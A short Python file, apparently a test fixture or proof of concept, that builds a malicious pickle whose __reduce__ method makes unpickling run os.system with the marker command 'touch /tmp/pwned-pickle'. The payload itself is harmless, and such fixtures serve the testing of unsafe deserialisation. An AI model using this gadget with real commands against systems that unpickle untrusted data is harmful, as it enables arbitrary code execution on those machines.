import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-pickle",)


def content():
    return pickle.dumps(Command())
